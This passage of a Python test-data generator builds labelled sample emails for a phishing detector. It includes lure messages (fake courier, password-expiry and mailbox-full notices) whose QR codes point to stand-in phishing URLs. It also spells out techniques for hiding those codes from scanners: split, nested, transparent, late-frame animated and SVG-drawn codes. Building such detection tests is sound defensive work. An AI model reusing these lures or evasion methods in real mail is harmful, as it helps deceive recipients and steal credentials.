          "From: =?UTF-8?B?%s?= <news@northwindbooks.co.jp>\nTo: "
          "taro.yamada@contoso.com\nSubject: =?UTF-8?B?%s?=\nDate: %s\n"
          "Message-ID: <ja05@mail.test>\nMIME-Version: 1.0\n"
          "Content-Type: text/html; charset=UTF-8\n"
          "Content-Transfer-Encoding: quoted-printable\n\n%s\n" %
          (base64.b64encode("ノースウインド書店".encode()).decode(),
           base64.b64encode("11月のおすすめ".encode()).decode(), DATE,
           quopri.encodestring(html.encode()).decode()), "clean")

    body = ("佐川急便より、お荷物のお届けにあがりましたが不在の為"
            "持ち帰りました。\n再配達のご依頼は下記よりお願いします。\n"
            "保管期限を過ぎますと返送されます。\n"
            "http://sagawa-exp.delivery-check.top/redelivery\n")
    write("ja-06-delivery-sjis-nocharset.eml",
          ("From: =?Shift_JIS?B?%s?= <info@sagawa-notice.top>\nTo: "
           "taro.yamada@contoso.com\nSubject: =?Shift_JIS?B?%s?=\n"
           "Date: %s\nMessage-ID: <ja06@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n\n" %
           (base64.b64encode("佐川急便".encode("cp932")).decode(),
            base64.b64encode("お荷物のお届けについて".encode("cp932")).decode(),
            DATE)).encode() + body.encode("cp932"), "threat",
          "content.delivery_lure", "sender.display_brand",
          "url.brand_in_host")

    body = ("関係者各位\n\n来週の打ち合わせの資料を添付します。\n"
            "よろしくお願いします。\n")
    write("ja-07-wrong-charset.eml",
          ("From: sato@fabrikam.com\nTo: taro.yamada@contoso.com\n"
           "Subject: =?ISO-2022-JP?B?%s?=\nDate: %s\n"
           "Message-ID: <ja07@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=us-ascii\n"
           "Content-Transfer-Encoding: 8bit\n\n" %
           (base64.b64encode(jis("打ち合わせ資料")).decode(), DATE)
           ).encode() + body.encode("euc_jp"), "clean")

    content_samples()
    sender_samples()
    sender2_samples()
    corroboration_samples()
    lure_form_samples()
    modern_samples()
    modern_ja_samples()
    split_qr_samples()
    fragment_samples()
    svg_qr_samples()
    picture_qr_samples()
    encrypted_pdf_samples()
    encrypted_office_samples()
    probe_samples()
    mime_evasion_samples()
    pdf_paint_samples()
    pdf_review_samples()
    sender_review_samples()
    sender_review31_samples()
    review32_samples()
    review36_samples()
    review37_samples()
    doc_text_samples()
    review42_samples()
    session44_samples()
    session47_samples()
    seeds(docm, z, pdf, qr)

    with open(os.path.join(OUT, "expect.txt"), "w") as f:
        f.write("# file verdict rules...: written by tests/detect/mkdata.py"
                "\n# (engine: own domain contoso.com, correspondent "
                "fabrikam.com, person \"John Smith\")\n")
        f.write("\n".join(EXPECT) + "\n")


def related_pictures(pics):
    """PNG parts of a multipart/related body (boundary r1), by Content-ID."""
    return "".join("--r1\nContent-Type: image/png\nContent-ID: <%s>\n"
                   "Content-Transfer-Encoding: base64\n\n%s\n"
                   % (cid, b64(png)) for cid, png in pics)


def split_qr_samples():
    """QR codes cut in two pictures, or wrapped around another code."""
    rows = qr_grey("https://mfa-reset.secure-login-check.top/r?u=taro", 6)
    half = len(rows) // 2
    # The kit's split code: the top and the bottom of the code, each a
    # picture of the related body, shown one above the other.
    parts = related_pictures((("q1", grey_png(rows[:half])),
                              ("q2", grey_png(rows[half:]))))
    write("en-258-split-qr.eml", headers(
        "Microsoft 365 <no-reply@account-notice.example>",
        "Your password expires today") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
        "password expires today. Scan the code with your phone to keep "
        'it.</p><img src="cid:q1" style="display:block"><img src="cid:q2"'
        ' style="display:block"></body></html>\n' + parts + "--r1--\n",
        "threat", "attach.qr_split", "url.risky_tld", "!attach.qr_code")
    # The left and the right halves as JPEG pictures in the page itself.
    width = len(rows[0]) // 2
    pics = ""
    for piece in ([r[:width] for r in rows], [r[width:] for r in rows]):
        pgm = b"P5 %d %d 255\n" % (len(piece[0]), len(piece)) + \
            b"".join(piece)
        jpg = subprocess.run(["cjpeg", "-quality", "90", "-grayscale"],
                             input=pgm, stdout=subprocess.PIPE,
                             check=True).stdout
        pics += ('<img alt="" src="data:image/jpeg;base64,%s">'
                 % base64.b64encode(jpg).decode())
    write("en-259-split-qr-beside.eml", headers(
        "Payroll <payroll@account-notice.example>",
        "Review your December payslip") +
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Scan "
        "the code to review your payslip.</p><p style=\"white-space:"
        'nowrap">' + pics + "</p></body></html>\n",
        "threat", "attach.qr_split", "url.risky_tld")
    # A code wrapped around a harmless one at its centre: both are read.
    outer = [bytearray(r) for r in qr_grey(
        "https://mfa-reset.secure-login-check.top/n?u=taro", 10, level="H")]
    inner = qr_grey("https://www.bing.com/", 2, 2)
    top = (len(outer) - len(inner)) // 2
    left = (len(outer[0]) - len(inner[0])) // 2
    for y, r in enumerate(inner):
        outer[top + y][left:left + len(r)] = r
    write("en-260-nested-qr.eml", headers(
        "Microsoft 365 <no-reply@account-notice.example>",
        "Your password expires today") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nYour password "
        "expires today. Scan the attached code to keep it.\n\n--b1\n"
        'Content-Type: image/png; name="code.png"\nContent-Disposition: '
        'inline; filename="code.png"\nContent-Transfer-Encoding: '
        "base64\n\n" + b64(grey_png([bytes(r) for r in outer])) +
        "\n--b1--\n", "threat", "attach.qr_code", "url.risky_tld")
    # The split code again behind two striped pictures of its halves'
    # size: neither decoys nor the pieces' own reading spend the pairs'
    # budget.
    stripes = grey_png([bytes(0 if (x // 12) % 2 else 255
                              for x in range(len(rows[0])))] * half)
    parts = related_pictures((("d1", stripes), ("d2", stripes),
                              ("q1", grey_png(rows[:half])),
                              ("q2", grey_png(rows[half:]))))
    write("en-265-split-qr-decoys.eml", headers(
        "Microsoft 365 <no-reply@account-notice.example>",
        "Your password expires today") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
        "password expires today. Scan the code with your phone to keep "
        'it.</p><img src="cid:d1"><img src="cid:d2"><img src="cid:q1" '
        'style="display:block"><img src="cid:q2" style="display:block">'
        "</body></html>\n" + parts + "--r1--\n",
        "threat", "attach.qr_split", "url.risky_tld")
    # A newsletter's banner above a footer strip that holds a whole small
    # code of its app: read together they give that code, which does not
    # cross where the pictures meet: the strip's own code, not a split.
    code = qr_matrix("https://fbk.co/a", 1)
    strip = [bytearray([255] * 200) for _ in range(50)]
    for y in range(50):
        strip[y][:60] = bytes(60)
    for my, r in enumerate(code):
        for mx, v in enumerate(r):
            for dy in range(2):
                for dx in range(2):
                    if 2 + my * 2 + dy < 50:
                        strip[2 + my * 2 + dy][
                            196 - len(r) * 2 + mx * 2 + dx] = 0 if v else 255
    banner = [bytes(200) if y < 100 else bytes(255 if x % 40 < 30 or
                                               y < 120 or y >= 180 else 0
                                               for x in range(200))
              for y in range(200)]
    parts = related_pictures((("banner", grey_png(banner)),
                              ("footer", grey_png([bytes(r) for r in strip]))))
    write("en-266-clean-code-in-footer-strip.eml", headers(
        "Fabrikam News <news@fabrikam.com>", "November news") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Our "
        'November news.</p><img src="cid:banner"><br><img src="cid:footer">'
        "<p>Get our app.</p></body></html>\n" + parts + "--r1--\n",
        "clean", "attach.qr_code", "!attach.qr_split")
    # A newsletter's black-and-white banner and its pattern below it,
    # together a square: read together, no code.
    banner = [bytes(0 if (x // 12 + y // 40) % 3 == 0 else 255
                    for x in range(240)) for y in range(120)]
    check = [bytes(0 if (x // 20 + y // 20) % 2 else 255
                   for x in range(240)) for y in range(120)]
    parts = related_pictures((("b1", grey_png(banner)),
                              ("b2", grey_png(check))))
    write("en-261-clean-two-tone-pictures.eml", headers(
        "Fabrikam News <news@fabrikam.com>", "Our new office") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><img "
        'src="cid:b1"><img src="cid:b2"><p>We moved to the new office '
        "on the river this week. Come and see us.</p></body></html>\n" +
        parts + "--r1--\n", "clean", "!attach.qr_split",
        "!attach.qr_code")


def fragment_samples():
    """The reader's address after a link's '#', where a kit's page reads
    it to fill in its sign-in form."""
    addr = "taro.yamada@contoso.com"
    page = ("<html><body><p>Taro, a document was shared with you: "
            "<b>Q4 salary review.pdf</b>.</p><p><a href=\"%s\">Open the "
            "document</a></p></body></html>\n")
    write("en-262-address-in-fragment-b64.eml", headers(
        "Docs Share <share@docs-review.example>", "Document shared") +
        "Content-Type: text/html; charset=utf-8\n\n" + page %
        ("https://docs-review.example/s/8812/#" +
         base64.b64encode(addr.encode()).decode()),
        "potential", "url.address_in_fragment")
    write("en-263-address-in-fragment-plain.eml", headers(
        "Docs Share <share@docs-review.example>", "Document shared") +
        "Content-Type: text/html; charset=utf-8\n\n" + page %
        "https://docs-review.example/s/8812/#!taro.yamada%40contoso.com",
        "potential", "url.address_in_fragment")
    # A colleague's reply quoting the reader: the attribution line names
    # the reader's address, and greets nobody.
    write("en-273-clean-reply-attribution.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Re: Slides") +
        "Content-Type: text/plain; charset=utf-8\n\nThanks, that works "
        "for us.\n\nOn Mon, 2 Nov 2026 at 09:12, Taro Yamada <" + addr +
        "> wrote:\n> Here are the slides for Thursday.\n", "clean",
        "!content.address_greeting")
    # A web application's invitation routed after '#', and a
    # newsletter's unsubscribe link with the address in its query.
    write("en-264-clean-address-in-links.eml", headers(
        "Fabrikam Projects <noreply@fabrikam.com>",
        "You are invited to the Q4 board") +
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Martin "
        "invited you to the Q4 planning board.</p><p><a href=\"https://"
        "projects.fabrikam.com/#/invite?email=" + addr + "&t=5521\">Join "
        "the board</a></p><p><a href=\"https://news.fabrikam.com/unsub?"
        "email=" + addr + "\">Unsubscribe</a></p></body></html>\n",
        "clean", "!url.address_in_fragment")


def picture_qr_samples():
    """QR codes in GIF and WebP pictures, light on dark, and on nothing
    (transparent); a newsletter's GIF and WebP pictures with no code."""
    def pic_mail(fname, subject, ctype, fname_pic, pic, verdict, *rules,
                 html=None):
        PICTURE_SEEDS.append(pic)
        body = ("Content-Type: text/plain; charset=utf-8\n\nYour mailbox "
                "is full. Scan the attached code with your phone to keep "
                "your mail.\n" if html is None else
                "Content-Type: text/html; charset=utf-8\n\n" + html + "\n")
        write(fname, headers("Mail Admin <admin@mailbox-notice.example>",
                             subject) +
              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n' +
              body + "\n--b1\nContent-Type: %s; name=\"%s\"\n"
              'Content-Disposition: attachment; filename="%s"\n'
              "Content-Transfer-Encoding: base64\n\n%s\n--b1--\n"
              % (ctype, fname_pic, fname_pic, b64(pic)), verdict, *rules)

    def url(n):
        return "https://mfa-reset.secure-login-check.top/p?u=%d" % n

    # A GIF of two colours, the code's light modules its transparent
    # colour, drawn at (16, 16) on a larger screen: read on white.
    rows = qr_grey(url(1), 6)
    idx = [bytes(0 if v == 0 else 1 for v in r) for r in rows]
    pic_mail("en-274-qr-gif.eml", "Your mailbox is full", "image/gif",
             "mailbox.gif", gif(idx, [(0, 0, 0), (255, 255, 255)], 1,
                                (len(rows[0]) + 32, len(rows) + 32),
                                (16, 16)),
             "threat", "attach.qr_code", "url.risky_tld")
    # A lossless WebP picture carried in the page itself.
    webp = webp_lossless(qr_grey(url(2), 5))
    rows = qr_grey(url(6), 4)
    PICTURE_SEEDS.extend([webp, subprocess.run(
        ["cjpeg", "-quality", "80", "-grayscale"], input=b"P5 %d %d 255\n"
        % (len(rows[0]), len(rows)) + b"".join(rows), stdout=subprocess.PIPE,
        check=True).stdout])
    write("en-275-qr-webp.eml", headers(
        "Mail Admin <admin@mailbox-notice.example>", "Your mailbox is full")
        + "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
        "mailbox is full. Scan the code with your phone to keep your mail."
        '</p><img alt="" src="data:image/webp;base64,%s"></body></html>\n'
        % base64.b64encode(webp).decode(),
        "threat", "attach.qr_code", "url.risky_tld")
    # Light modules on a dark ground, as a scanner that reads only dark
    # on light misses them.
    pic_mail("en-276-qr-light-on-dark.eml", "Your mailbox is full",
             "image/png", "mailbox.png",
             grey_png([bytes(255 - v for v in r) for r in qr_grey(url(3), 6)]),
             "threat", "attach.qr_code", "url.risky_tld")
    # Dark modules on nothing: the light ones transparent (and black
    # underneath, as drawing programs leave them), shown on white.
    rows = qr_grey(url(4), 6)
    pic_mail("en-277-qr-transparent.eml", "Your mailbox is full",
             "image/png", "mailbox.png",
             ga_png([bytes(len(r)) for r in rows],
                    [bytes(255 if v == 0 else 0 for v in r) for r in rows]),
             "threat", "attach.qr_code", "url.risky_tld")
    # White modules on nothing, in a page with a black background: shown
    # on white there is nothing to see; read on black.
    rows = qr_grey(url(5), 6)
    pic_mail("en-278-qr-transparent-on-dark-page.eml",
             "Your mailbox is full", "image/png", "mailbox.png",
             ga_png([bytes([255]) * len(r) for r in rows],
                    [bytes(255 if v == 0 else 0 for v in r) for r in rows]),
             "threat", "attach.qr_code", "url.risky_tld",
             html='<html><body style="background:#000;color:#fff"><p>Your '
             "mailbox is full. Scan the attached code with your phone to "
             "keep your mail.</p></body></html>")
    # A Windows bitmap of one bit a pixel, as "scan.bmp".
    pic_mail("en-288-qr-bmp.eml", "Your mailbox is full", "image/bmp",
             "scan.bmp", bmp(qr_grey(url(7), 6)),
             "threat", "attach.qr_code", "url.risky_tld")
    # An animated GIF whose first frame, shown a second, says "loading"
    # (a grey bar), then eight quick flickers, then the code, drawn as a
    # frame of its own over the bar and shown five seconds, then cleared
    # and two flickers more: a scanner of first frames sees no code, nor
    # one of the first few frames, nor one of the last.
    rows = qr_grey(url(8), 6)
    n = len(rows)
    side = n + 40
    bar = [bytes(2 if 60 <= y < 70 and 20 <= x < side - 20 else 1
                 for x in range(side)) for y in range(side)]
    flick = [bytes(2 for _ in range(8)) for _ in range(8)]
    code = [bytes(0 if v == 0 else 1 for v in r) for r in rows]
    anim = gif_anim((side, side), [(0, 0, 0), (255, 255, 255),
                                   (128, 128, 128), (0, 0, 0)],
                    [(bar, (0, 0), 100, 1, None)] +
                    [(flick, (10 + 20 * i, 10), 5, 2, None)
                     for i in range(8)] +
                    [(code, (20, 20), 500, 2, None)] +
                    [(flick, (10 + 20 * i, 10), 5, 2, None)
                     for i in range(2)])
    pic_mail("en-303-qr-gif-later-frame.eml", "Your mailbox is full",
             "image/gif", "mailbox.gif", anim, "threat", "attach.qr_code",
             "url.risky_tld")
    # The same as an animated WebP (gif2webp), in the page.
    with tempfile.TemporaryDirectory() as tmp:
        with open(os.path.join(tmp, "a.gif"), "wb") as f:
            f.write(gif_anim((side, side), [(0, 0, 0), (255, 255, 255),
                                            (128, 128, 128), (0, 0, 0)],
                             [(bar, (0, 0), 100, 1, None),
                              ([bytes(0 if v == 0 else 1 for v in r)
                                for r in qr_grey(url(9), 6)], (20, 20),
                               500, 1, None)]))
        subprocess.run(["gif2webp", "-quiet", "-lossy", "-q", "90",
                        os.path.join(tmp, "a.gif"), "-o",
                        os.path.join(tmp, "a.webp")], check=True)
        with open(os.path.join(tmp, "a.webp"), "rb") as f:
            awebp = f.read()
    PICTURE_SEEDS.append(awebp)
    write("en-304-qr-webp-later-frame.eml", headers(
        "Mail Admin <admin@mailbox-notice.example>", "Your mailbox is full")
        + "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
        "mailbox is full. Scan the code with your phone to keep your mail."
        '</p><img alt="" src="data:image/webp;base64,%s"></body></html>\n'
        % base64.b64encode(awebp).decode(),
        "threat", "attach.qr_code", "url.risky_tld")
    # An animation that plays once and stays on its last frame, the
    # code, shown for no time after seven decoys of five seconds each
    # and a black frame put back as it was by disposal 4 (as Firefox
    # and WebKit take it): the code's light modules transparent, over
    # white.
    rows = qr_grey(url(12), 6)
    side = len(rows) + 40
    white = [bytes([1]) * side] * side
    black = [bytes([0]) * side] * side
    decoys = [([bytes((x // 20 + y // 20 + i) % 2 + 1 for x in range(side))
                for y in range(side)], (0, 0), 500, 1, None)
              for i in range(7)]
    anim = gif_anim((side, side), [(0, 0, 0), (255, 255, 255),
                                   (128, 128, 128), (0, 0, 0)],
                    [(white, (0, 0), 100, 1, None)] + decoys +
                    [(white, (0, 0), 10, 1, None), (black, (0, 0), 10, 4,
                                                    None),
                     ([bytes(0 if v == 0 else 3 for v in r) for r in rows],
                      (20, 20), 0, 1, 3)], loop=False)
    pic_mail("en-315-qr-gif-last-frame-once.eml", "Your mailbox is full",
             "image/gif", "mailbox.gif", anim, "threat", "attach.qr_code",
             "url.risky_tld")
    # Three animated banners, their frames all read, before the code:
    # the frames have their own budget, and leave the mail's pictures
    # theirs.
    banners = []
    for k in range(3):
        frames = [([bytes((x // 12 + y // 12 + i + k) % 2 + 1
                          for x in range(160)) for y in range(80)],
                   (0, 0), 50, 1, None) for i in range(5)]
        banners.append(gif_anim((160, 80), [(0, 0, 0), (255, 255, 255),
                                            (60, 60, 160), (0, 0, 0)],
                                frames))
    write("en-305-qr-after-animated-banners.eml", headers(
        "Mail Admin <admin@mailbox-notice.example>", "Your mailbox is full") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><img "
        'src="cid:b0"><img src="cid:b1"><img src="cid:b2"><p>Your mailbox '
        "is full. Scan the code with your phone to keep your mail.</p><img "
        'src="cid:code"></body></html>\n' + "".join(
            "--r1\nContent-Type: image/gif\nContent-ID: <b%d>\n"
            "Content-Transfer-Encoding: base64\n\n%s\n" % (k, b64(b))
            for k, b in enumerate(banners)) +
        "--r1\nContent-Type: image/png\nContent-ID: <code>\n"
        "Content-Transfer-Encoding: base64\n\n%s\n--r1--\n"
        % b64(grey_png(qr_grey(url(10), 6))),
        "threat", "attach.qr_code", "url.risky_tld")
    # The next message's animation is read too (the frames' budget is a
    # message's: en-305 used it up), here a GIF in the page by cid:.
    rows = qr_grey(url(11), 6)
    side = len(rows) + 40
    anim = gif_anim((side, side), [(0, 0, 0), (255, 255, 255),
                                   (128, 128, 128), (0, 0, 0)],
                    [([bytes([1]) * side] * side, (0, 0), 100, 1, None),
                     ([bytes(0 if v == 0 else 1 for v in r) for r in rows],
                      (20, 20), 300, 1, None)])
    write("en-310-qr-gif-later-frame-next-message.eml", headers(
        "Mail Admin <admin@mailbox-notice.example>", "Your mailbox is full") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
        "mailbox is full. Scan the code with your phone to keep your mail."
        '</p><img src="cid:code"></body></html>\n--r1\nContent-Type: '
        "image/gif\nContent-ID: <code>\nContent-Transfer-Encoding: base64"
        "\n\n%s\n--r1--\n" % b64(anim),
        "threat", "attach.qr_code", "url.risky_tld")
    # A newsletter's logo as a GIF (transparent corners) and a picture
    # as a WebP of stripes: pictures, no code.
    logo = [bytes(1 if (x - 40) ** 2 + (y - 40) ** 2 < 1500 else 0 if
                  (x - 40) ** 2 + (y - 40) ** 2 < 1600 else 2
                  for x in range(80)) for y in range(80)]
    stripes = [bytes(0 if (x + y) // 10 % 2 else 255 for x in range(240))
               for y in range(160)]
    write("en-279-clean-gif-webp-newsletter.eml", headers(
        "Fabrikam News <news@fabrikam.com>", "Our winter menu") +
        'Content-Type: multipart/related; boundary="r1"\n\n--r1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body><img "
        'src="cid:logo"><p>Our winter menu is here: soups, stews and hot '
        'chocolate.</p><img src="cid:photo"></body></html>\n'
        "--r1\nContent-Type: image/gif\nContent-ID: <logo>\n"
        "Content-Transfer-Encoding: base64\n\n%s\n"
        "--r1\nContent-Type: image/webp\nContent-ID: <photo>\n"
        "Content-Transfer-Encoding: base64\n\n%s\n--r1--\n"
        % (b64(gif(logo, [(200, 30, 30), (0, 0, 0), (255, 255, 255),
                          (0, 0, 0)], 2)), b64(webp_lossless(stripes))),
        "clean", "!attach.qr_code", "!attach.qr_split")


def svg_qr_samples():
    """QR codes drawn with an SVG picture's shapes: no image to scan."""
    def svg_mail(fname, frm, subject, svg, verdict, *rules):
        SVGDRAW_SEEDS.append(svg)
        write(fname, headers(frm, subject) +
              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
              "Content-Type: text/plain; charset=utf-8\n\nThe secure "
              "message is attached: scan its code with your phone to read "
              "it.\n\n--b1\nContent-Type: image/svg+xml; name=\"Secure_"
              'Message.svg"\nContent-Disposition: attachment; filename='
              '"Secure_Message.svg"\nContent-Transfer-Encoding: base64\n\n'
              + b64(svg) + "\n--b1--\n", verdict, *rules)

    frm = "Secure Mail <notify@secure-mail-notice.example>"

    def code(u):
        """The modules of the kit's link number u."""
        return qr_matrix("https://mfa-reset.secure-login-check.top/v?u=%d"
                         % u, 0)

    def dark(m, fmt, skip=()):
        """fmt % (x, y) for each dark module of m not in skip, joined."""
        return "".join(fmt % (x, y) for y, r in enumerate(m)
                       for x, v in enumerate(r) if v and (x, y) not in skip)

    def finders(m):
        """The top left corners of m's three finder squares, and the
        modules they cover."""
        n = len(m)
        corners = [(0, 0), (n - 7, 0), (0, n - 7)]
        return corners, set((ox + x, oy + y) for ox, oy in corners
                            for x in range(7) for y in range(7))

    def code_mail(fname, m, inner):
        """The secure-message lure with an SVG picture of m's code drawn
        by inner, four modules of margin round it: read, a potential
        threat."""
        svg_mail(fname, frm, "You have a secure message",
                 ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="-4 -4 '
                  '%d %d">%s</svg>' % (len(m) + 8, len(m) + 8, inner))
                 .encode(), "potential", "attach.qr_code", "url.risky_tld")

    # qrencode's own SVG: a rect a module inside a translated group.
    svg_mail("en-267-svg-qr-rects.eml", frm, "You have a secure message",
             subprocess.run(["qrencode", "-t", "SVG", "-o", "-",
                             "https://mfa-reset.secure-login-check.top/"
                             "v?u=3"], stdout=subprocess.PIPE,
                            check=True).stdout,
             "potential", "attach.qr_code", "url.risky_tld")
    # A dot a module, grouped and scaled: the kits' way past scanners
    # that look for square modules.
    m = code(4)
    dots = dark(m, '<circle cx="%d.5" cy="%d.5" r=".45"/>')
    svg_mail("en-268-svg-qr-dots.eml", frm, "You have a secure message",
             ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 '
              '400"><rect width="400" height="400" fill="white"/><g '
              'style="fill:#1b1b1b" transform="translate(40 40) scale(%g)">'
              '%s</g></svg>' % (320 / len(m), dots)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # Runs of modules as stroked lines of one path (segno's way).
    m = code(5)
    d = "".join("M%d %d.5h%d" % (x, y, n) for y, x, n in dark_runs(m))
    svg_mail("en-269-svg-qr-lines.eml", frm, "You have a secure message",
             ('<svg xmlns="http://www.w3.org/2000/svg" width="%d" height='
              '"%d"><path transform="scale(5)" stroke="#000" d="%s"/></svg>'
              % (5 * len(m), 5 * len(m), d)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # python-qrcode's ways: a path of filled module squares, and
    # prefixed rectangles (svg:rect) in millimetres.
    m = qr_matrix("https://mfa-reset.secure-login-check.top/v?u=6", 4)
    d = "".join("M%d,%dH%dV%dH%dz" % (x, y, x + 1, y + 1, x)
                for y, r in enumerate(m) for x, v in enumerate(r) if v)
    rects = "".join('<svg:rect x="%dmm" y="%dmm" width="1mm" height="1mm" '
                    '/>' % (x, y) for y, r in enumerate(m)
                    for x, v in enumerate(r) if v)
    svg_mail("en-271-svg-qr-python.eml", frm, "You have a secure message",
             ('<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.'
              'w3.org/2000/svg" viewBox="0 0 %d %d"><path d="%s" id="qr-'
              'path" fill="#000000"/></svg><svg xmlns:svg="http://www.w3.org/'
              '2000/svg">%s</svg>' % (len(m), len(m), d, rects)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # In the page itself: an SVG drawn turned a quarter, its light
    # modules in a translucent white and its dark ones in rgba().
    m = code(7)
    cells = "".join('<rect x="%d" y="%d" width="1" height="1" fill="%s"/>'
                    % (x, y, "rgba(20, 20, 20, 0.9)" if v else "#ffffff80")
                    for y, r in enumerate(m) for x, v in enumerate(r))
    write("en-272-svg-qr-in-page.eml", headers(frm, "You have a secure "
                                               "message") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Scan "
          "the code with your phone to read your secure message.</p><svg "
          'width="240" height="240" viewBox="-2 -2 %d %d"><g transform='
          '"rotate(90 %g %g)">%s</g></svg></body></html>\n'
          % (len(m) + 4, len(m) + 4, len(m) / 2, len(m) / 2, cells),
          "potential", "attach.qr_code", "url.risky_tld")
    # A design program's export: colours set by the classes of a style
    # sheet (in CDATA), every module a rectangle, the light ones of the
    # light class (read as ink by default, they hid the code).
    m = code(8)
    rects = "".join('<rect class="cls-%d" x="%d" y="%d" width="1" height='
                    '"1"/>' % (2 if v else 1, x, y) for y, r in enumerate(m)
                    for x, v in enumerate(r))
    code_mail("en-280-svg-qr-css-classes.eml", m,
              '<defs><style><![CDATA[.cls-1{fill:#fff;}\n.cls-2{fill:'
              '#231f20;}]]></style></defs><title>code</title><rect '
              'class="cls-1" x="-4" y="-4" width="%d" height="%d"/><g>%s'
              '</g>' % (len(m) + 8, len(m) + 8, rects))
    # Dark squares on the code's light modules that nobody sees: no
    # opacity, a transparent fill, display none, kept in <defs>; each
    # spoils the code for a reader that counts them.
    m = code(9)
    light = [(x, y) for y, r in enumerate(m) for x, v in enumerate(r)
             if not v]
    hide = ('opacity="0"', 'fill-opacity="0"', 'style="display:none"',
            'fill="#000" style="opacity:0.1"')
    decoys = "".join('<rect x="%d" y="%d" width="1" height="1" %s/>'
                     % (x, y, hide[i % len(hide)])
                     for i, (x, y) in enumerate(light[::3]))
    hidden = "".join('<rect x="%d" y="%d" width="1" height="1"/>' % xy
                     for xy in light[1::3])
    code_mail("en-281-svg-qr-invisible-decoys.eml", m,
              "<defs>%s</defs>%s%s" % (hidden, decoys, dark(
                  m, '<rect x="%d" y="%d" width="1" height="1"/>')))
    # Runs as <line> elements, and modules as round dots: strokes of no
    # length with round caps.
    m = code(10)
    lines = "".join('<line x1="%d" y1="%d.5" x2="%d" y2="%d.5"/>'
                    % (x, y, x + n, y) for y, x, n in dark_runs(m))
    code_mail("en-282-svg-qr-line-elements.eml", m,
              '<g stroke="black" stroke-width="1">%s</g>' % lines)
    m = code(11)
    code_mail("en-283-svg-qr-round-caps.eml", m,
              '<path fill="none" stroke="#111" stroke-width=".8" '
              'stroke-linecap="round" d="%s"/>' % dark(m, "M%d.5 %d.5h0"))
    # qr-code-styling's way: the modules are a clip path, painted by a
    # dark square of the code's size; the background another clip path
    # painted white, and the light modules a third one, also painted
    # white (drawn as ink, they hid the code).
    m = code(12)
    n = len(m) * 10

    def mods(dark):
        return "".join('<rect x="%d" y="%d" width="10" height="10" '
                       'transform="rotate(0,%d,%d)"/>'
                       % (20 + 10 * x, 20 + 10 * y, 25 + 10 * x, 25 + 10 * y)
                       for y, r in enumerate(m) for x, v in enumerate(r)
                       if v == dark)
    svg_mail("en-284-svg-qr-clip-path.eml", frm,
             "You have a secure message",
             ('<svg width="%d" height="%d" xmlns="http://www.w3.org/2000/svg"'
              ' xmlns:xlink="http://www.w3.org/1999/xlink"><defs><clipPath '
              'id="clip-path-background-color"><rect x="0" y="0" width="%d" '
              'height="%d"/></clipPath><clipPath id="clip-path-dot-color">%s'
              '</clipPath><clipPath id="clip-path-light">%s</clipPath></defs>'
              '<rect x="0" y="0" height="%d" width="%d" clip-path="url(\''
              '#clip-path-background-color\')" fill="#ffffff"/><rect x="0" '
              'y="0" height="%d" width="%d" clip-path="url(\'#clip-path-dot-'
              'color\')" fill="#000000"/><rect width="%d" height="%d" '
              'style="clip-path:url(#clip-path-light)" fill="#fff"/></svg>'
              % ((n + 40,) * 4 + (mods(1), mods(0)) + (n + 40,) * 6)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # A module defined once and drawn by reference (an optimiser's
    # reused paths): <use> of a path, and of a symbol holding a group.
    m = code(13)
    code_mail("en-286-svg-qr-use.eml", m,
              '<defs><path id="a" d="M0 0h1v1H0z"/></defs>%s'
              % dark(m, '<use href="#a" x="%d" y="%d"/>'))
    m = code(14)
    uses = "".join('<use xlink:href="#mod" transform="translate(%d %d)"/>'
                   % (10 * x, 10 * y) for y, r in enumerate(m)
                   for x, v in enumerate(r) if v)
    svg_mail("en-287-svg-qr-use-symbol.eml", frm,
             "You have a secure message",
             ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://'
              'www.w3.org/1999/xlink" viewBox="-40 -40 %d %d"><g fill='
              '"#0b0b0b">%s</g><symbol id="mod"><g><rect width="10" height='
              '"10"/></g></symbol></svg>'
              % (10 * len(m) + 80, 10 * len(m) + 80, uses)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # What a browser shows, read as it shows it (each of these hid the
    # code from a reader of the round before, found by its review):
    # modules in a hidden group that show themselves, and some whose
    # display none a later declaration undoes.
    m = code(15)
    shown = "".join('<rect x="%d" y="%d" width="1" height="1" visibility='
                    '"visible"/>' % (x, y) for y, r in enumerate(m)
                    for x, v in enumerate(r) if v and (x + y) % 2)
    undone = "".join('<rect x="%d" y="%d" width="1" height="1" display='
                     '"none" style="display:inline"/>' % (x, y)
                     for y, r in enumerate(m) for x, v in enumerate(r)
                     if v and not (x + y) % 2)
    code_mail("en-289-svg-qr-shown-in-hidden.eml", m,
